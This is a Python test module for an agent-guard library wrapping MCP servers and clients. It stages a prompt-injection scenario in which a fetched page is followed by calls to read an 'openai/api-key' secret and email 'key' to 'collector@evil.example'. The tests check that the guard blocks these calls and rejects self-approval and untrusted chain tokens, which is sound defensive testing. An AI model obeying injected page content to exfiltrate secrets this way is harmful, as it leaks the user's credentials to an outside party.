"""MCP: a real in-process MCP server (the `mcp` package), guarded on the client and server side.

CI runs this module on the newest mcp 2.x (`MCPServer`, `Client`, middleware) and, in a venv
of its own, on the newest 1.x (`FastMCP`, `ClientSession`, no middleware): the adapter holds
on every version it accepts."""

from __future__ import annotations

import json
from typing import Any, AsyncContextManager, List, Tuple

import pytest

pytest.importorskip("mcp")

import agentwarrant as aw
from agentwarrant.integrations.mcp import GuardMiddleware, guard_client, guard_server

from conftest import INJECTED_PAGE, SCRIPT_DECIDED, STORY_TOOLS, decided, explode, only_alice, sent, story_specs

try:  # mcp 2.x
    from mcp import Client
    from mcp.server.mcpserver import MCPServer as Server

    MCP2 = True

    def connect(server: Any) -> AsyncContextManager[Any]:
        return Client(server)

except ImportError:  # mcp 1.x
    from mcp.server.fastmcp import FastMCP as Server  # type: ignore[no-redef]
    from mcp.shared.memory import create_connected_server_and_client_session

    MCP2 = False

    def connect(server: Any) -> AsyncContextManager[Any]:
        return create_connected_server_and_client_session(server._mcp_server)


def make_server(**options: Any) -> Any:
    server = Server("research", **options)
    for tool in STORY_TOOLS:
        server.tool()(tool)
    return server


def text(result: Any) -> str:
    return "".join(getattr(c, "text", "") for c in result.content)


def is_error(result: Any) -> bool:
    """What the host sees on the wire: `isError` of the result's JSON."""
    return bool(json.loads(result.model_dump_json(by_alias=True)).get("isError"))


async def test_client_side_guard_stops_the_injected_instruction(story_guard, researcher, goal):
    sent.clear()
    async with connect(make_server()) as client:
        tools = await guard_client(client, story_guard, specs=story_specs())
        async with story_guard.task(researcher, goal):
            page = await tools.call_tool("fetch_page", {"url": "https://blog.example.com/x"})
            assert text(page) == INJECTED_PAGE and not is_error(page)
            key = await tools.call_tool("read_secret", {"path": "openai/api-key"})
            mail = await tools.call_tool("send_email", {"to": "collector@evil.example", "body": "key"})
            ok = await tools.call_tool("send_email", {"to": "alice@acme.com", "body": "summary"})
    assert is_error(key) and "secret_access" in text(key)
    assert is_error(mail) and "untrusted_input" in text(mail) and "collector@evil.example" not in text(mail)
    assert not is_error(ok) and sent == ["alice@acme.com"]
    assert decided(story_guard.ledger) == SCRIPT_DECIDED


async def test_server_side_guards_every_tools_call_and_refusals_reach_the_host_as_errors(story_guard, researcher, goal):
    sent.clear()
    server = make_server()
    async with story_guard.task(researcher, goal) as task:
        guard_server(server, story_guard, specs=story_specs(), task=task)
        async with connect(server) as client:
            await client.call_tool("fetch_page", {"url": "https://blog.example.com/x"})
            mail = await client.call_tool("send_email", {"to": "collector@evil.example", "body": "key"})
            listed = await client.list_tools()
    assert is_error(mail) and "untrusted_input" in text(mail)
    assert sent == []
    assert {t.name for t in listed.tools} == {"fetch_page", "read_secret", "send_email"}
    assert decided(story_guard.ledger) == [("fetch_page", "allowed"), ("send_email", "approval_denied")]


async def test_guard_server_without_a_task_is_refused_at_wrap_time(story_guard):
    with pytest.raises(aw.ConfigError, match="identity=") as caught:
        guard_server(make_server(), story_guard, specs=story_specs())
    assert caught.value.code == "no_task"


async def test_guard_server_with_identity_and_intent_runs_a_task_per_client_connection(story_guard, researcher, goal):
    sent.clear()
    server = make_server()
    guard_server(server, story_guard, specs=story_specs(), identity=researcher, intent=goal)
    # No `with guard.task(...)` anywhere: the server begins a task for each client connection.
    async with connect(server) as client:
        ok = await client.call_tool("send_email", {"to": "alice@acme.com", "body": "hi"})
        drift = await client.call_tool("send_email", {"to": "collector@evil.example", "body": "key"})
    assert not is_error(ok) and sent == ["alice@acme.com"]
    assert is_error(drift) and "scope_drift" in text(drift)
    begun = [r for r in story_guard.ledger.records() if r["kind"] == "task.begun"]
    assert begun and all(r["identity"] == researcher.id for r in begun)
    if not MCP2:  # a 1.x session is one connection: one task, its calls chained
        assert len(begun) == 1


async def test_guard_server_current_uses_the_task_current_where_the_server_runs(story_guard, researcher, goal):
    sent.clear()
    server = make_server()
    guard_server(server, story_guard, specs=story_specs(), task="current")
    async with connect(server) as client:  # no task current: refused, as an error result
        refused = await client.call_tool("send_email", {"to": "alice@acme.com", "body": "hi"})
    assert is_error(refused) and "no agentwarrant task" in text(refused) and sent == []
    async with story_guard.task(researcher, goal):
        async with connect(server) as client:
            result = await client.call_tool("send_email", {"to": "alice@acme.com", "body": "hi"})
    assert not is_error(result) and sent == ["alice@acme.com"]


@pytest.mark.skipif(not MCP2, reason="server middleware is an mcp 2.x feature")
async def test_middleware_passed_at_construction(story_guard, researcher, goal):
    sent.clear()
    middleware = GuardMiddleware(
        story_guard, specs=story_specs(), tool_names=["fetch_page", "read_secret", "send_email"], task="current"
    )
    server = make_server(middleware=[middleware])
    async with story_guard.task(researcher, goal):
        async with connect(server) as client:
            result = await client.call_tool("send_email", {"to": "alice@acme.com", "body": "hi"})
    assert not is_error(result) and sent == ["alice@acme.com"]


async def test_unguarded_server_tools_fail_at_wrap_time(story_guard):
    server = make_server()
    with pytest.raises(aw.UnguardedToolError) as error:
        guard_server(server, story_guard, specs={"fetch_page": story_specs()["fetch_page"]}, task="current")
    assert sorted(error.value.tools) == ["read_secret", "send_email"]
    async with connect(make_server()) as client:
        with pytest.raises(aw.UnguardedToolError, match="`read_secret`"):
            await guard_client(client, story_guard, specs=[story_specs()["fetch_page"], story_specs()["send_email"]])


async def test_a_tool_registered_after_wrapping_gets_the_default_spec_or_is_refused(story_guard, researcher, goal):
    def ping() -> str:
        """Answers pong."""
        return "pong"

    # Without a default first: the default case declares `ping` on the guard.
    for default, expected_error in ((None, True), (aw.ToolSpec("any", impact="low"), False)):
        server = make_server()
        guard_server(server, story_guard, specs=story_specs(), task="current", default=default)
        server.tool()(ping)
        async with story_guard.task(researcher, goal):
            async with connect(server) as client:
                result = await client.call_tool("ping", {})
        assert is_error(result) is expected_error, text(result)
        assert expected_error or text(result) == "pong"
        assert not expected_error or "unknown_tool" in text(result)


async def test_tool_errors_are_recorded_as_outcomes(story_guard, researcher, goal):
    server = Server("broken")
    server.tool()(explode)
    async with connect(server) as client:
        tools = await guard_client(client, story_guard, default=aw.ToolSpec("any", impact="low"))
        async with story_guard.task(researcher, goal):
            result = await tools.call_tool("explode", {"reason": "x"})
    assert is_error(result)
    completed = [r for r in story_guard.ledger.records() if r["kind"] == "call.completed"]
    assert completed[-1]["outcome"]["status"] == "error"


# ------------------------------------------------------------------ approvals of served calls

MAIL = {"to": "partner@example.org", "body": "the Q3 numbers"}


def connect_answering(server: Any, answer: Any) -> AsyncContextManager[Any]:
    """A client whose user answers every elicitation with ``answer`` (an ElicitResult)."""
    asked: Any = []

    async def elicitation(context: Any, params: Any) -> Any:
        asked.append(params.message)
        return answer

    connect_answering.asked = asked  # type: ignore[attr-defined]
    if MCP2:
        # A session with a back-channel: the stateless exchange of the newest protocol has none
        # for server-initiated requests (there, `approvals="pending"`).
        return Client(server, mode="legacy", elicitation_callback=elicitation)
    return create_connected_server_and_client_session(server._mcp_server, elicitation_callback=elicitation)


@pytest.mark.parametrize("approve", [True, False])
async def test_a_served_call_needing_approval_asks_the_clients_user(researcher, goal, approve):
    from mcp.types import ElicitResult

    sent.clear()
    guard = aw.Guard(ledger=aw.MemoryLedger())  # no approver: the client's user is asked
    server = make_server()
    answer = ElicitResult(action="accept", content={"approve": approve, "approver": "bob@acme.com"})
    async with guard.task(researcher, goal) as task:
        guard_server(server, guard, specs=story_specs(), task=task, approvals="elicit")
        async with connect_answering(server, answer) as client:
            result = await client.call_tool("send_email", MAIL)
    (message,) = connect_answering.asked  # type: ignore[attr-defined]
    assert "send_email" in message and "the Q3 numbers" in message
    if approve:
        assert not is_error(result) and sent == ["partner@example.org"]
        assert decided(guard.ledger) == [("send_email", "approved")]
    else:
        assert is_error(result) and "approval not granted" in text(result) and sent == []
        assert decided(guard.ledger) == [("send_email", "approval_denied")]


async def test_a_declined_elicitation_refuses_and_the_engine_still_checks_who_approved(researcher, goal):
    from mcp.types import ElicitResult

    sent.clear()
    guard = aw.Guard(ledger=aw.MemoryLedger())
    server = make_server()
    async with guard.task(researcher, goal) as task:
        guard_server(server, guard, specs=story_specs(), task=task, approvals="elicit")
        async with connect_answering(server, ElicitResult(action="decline")) as client:
            declined = await client.call_tool("send_email", MAIL)
        # The user claims to be the agent itself: the engine refuses the approval.
        as_agent = ElicitResult(action="accept", content={"approve": True, "approver": researcher.id})
        async with connect_answering(server, as_agent) as client:
            self_approved = await client.call_tool("send_email", {**MAIL, "to": "other@example.org"})
    assert is_error(declined) and is_error(self_approved) and sent == []
    answers = [r["detail"]["reason"] for r in guard.ledger.records() if r["kind"] == "approval.answered"]
    assert "answered `decline`" in answers[0] and "approval_invalid" in answers[1]


@pytest.mark.skipif(not MCP2, reason="mcp 1.x sessions always have a back-channel")
async def test_an_elicitation_the_connection_cannot_carry_refuses_the_call(researcher, goal):
    sent.clear()
    guard = aw.Guard(ledger=aw.MemoryLedger())
    server = make_server()
    async with guard.task(researcher, goal) as task:
        guard_server(server, guard, specs=story_specs(), task=task, approvals="elicit")
        async with connect(server) as client:  # the stateless exchange: no back-channel
            result = await client.call_tool("send_email", MAIL)
    assert is_error(result) and sent == []
    (answer,) = [r for r in guard.ledger.records() if r["kind"] == "approval.answered"]
    assert "could not be asked" in answer["detail"]["reason"]


async def test_a_pending_served_call_runs_when_called_again_after_approval(researcher, goal):
    sent.clear()
    guard = aw.Guard(ledger=aw.MemoryLedger())
    server = make_server()
    async with guard.task(researcher, goal) as task:
        guard_server(server, guard, specs=story_specs(), task=task, approvals="pending")
        async with connect(server) as client:
            first = await client.call_tool("send_email", MAIL)
            assert is_error(first) and "approval pending" in text(first) and sent == []
            (ticket,) = guard.approvals.waiting()
            assert ticket.id in text(first)
            again = await client.call_tool("send_email", MAIL)  # still unanswered: same ticket
            assert is_error(again) and ticket.id in text(again)
            guard.approvals.approve(ticket, "bob@acme.com")
            done = await client.call_tool("send_email", MAIL)
    assert not is_error(done) and sent == ["partner@example.org"]
    assert decided(guard.ledger) == [("send_email", "approved")]


TOOL_SERVER = dict(
    id="agent://acme/research-tools",
    owner="bob@acme.com",
    ceiling=["web.fetch:*", "secrets.read:*", "email.send:*"],
)
SERVER_GOAL = dict(goal="serve research tools", scopes=["web.fetch:*"])


def decided_depths(ledger: aw.MemoryLedger) -> List[Tuple[str, int]]:
    """(tool, depth) of every call.decided record, from the policy input it was decided on."""
    return [
        (r["tool"], r["decision"]["input"]["chain"]["depth"]) for r in ledger.records() if r["kind"] == "call.decided"
    ]


async def test_the_chain_crosses_to_a_guarded_server_and_its_labels_come_back(researcher, goal):
    # Two processes' guards: the agent's, and the tool server's, which trusts the agent's keys.
    agent_guard = aw.Guard(approver=only_alice, ledger=aw.MemoryLedger())
    server_guard = aw.Guard(approver=only_alice, ledger=aw.MemoryLedger(), trust_chain_keys=agent_guard.jwks())
    server = make_server()
    guard_server(server, server_guard, specs=story_specs(), identity=aw.Identity(**TOOL_SERVER), intent=aw.Intent(**SERVER_GOAL))  # type: ignore[arg-type]
    # The agent's own spec of fetch_page says nothing of its result: the server labels it.
    agent_specs = {**story_specs(), "fetch_page": aw.ToolSpec("fetch_page", impact="low", external=True, scopes=["web.fetch:{url:url}"])}
    async with connect(server) as client:
        tools = await guard_client(client, agent_guard, specs=agent_specs)
        async with agent_guard.task(researcher, goal) as task:
            page = await tools.call_tool("fetch_page", {"url": "https://blog.example.com/x"})
            assert not is_error(page) and text(page) == INJECTED_PAGE
            # The server's label came back with the result and joined the agent's chain.
            assert task.chain_labels == ["untrusted"]
    # On the server, the call sat below the agent's call, in a task that continued its chain.
    assert decided_depths(agent_guard.ledger) == [("fetch_page", 1)]
    assert decided_depths(server_guard.ledger) == [("fetch_page", 2)]
    begun = [r for r in server_guard.ledger.records() if r["kind"] == "task.begun"]
    assert begun[0]["identity"] == TOOL_SERVER["id"]
    assert begun[0]["detail"]["resumed_from"]["identity"] == researcher.id
    assert begun[0]["detail"]["resumed_from"]["scopes"] == "web.fetch:* email.send:alice@acme.com"


async def test_a_chain_token_the_server_does_not_trust_refuses_the_served_call(researcher, goal):
    sent.clear()
    agent_guard = aw.Guard(approver=only_alice, ledger=aw.MemoryLedger())
    stranger = aw.Guard(ledger=aw.MemoryLedger())  # the server trusts another guard's keys only
    server_guard = aw.Guard(approver=only_alice, ledger=aw.MemoryLedger(), trust_chain_keys=[stranger.jwks()])
    server = make_server()
    guard_server(server, server_guard, specs=story_specs(), identity=aw.Identity(**TOOL_SERVER), intent=aw.Intent(**SERVER_GOAL))  # type: ignore[arg-type]
    async with connect(server) as client:
        tools = await guard_client(client, agent_guard, specs=story_specs())
        async with agent_guard.task(researcher, goal):
            mail = await tools.call_tool("send_email", {"to": "alice@acme.com", "body": "summary"})
    assert is_error(mail) and "chain_token_invalid" in text(mail)
    assert sent == [] and decided(server_guard.ledger) == []
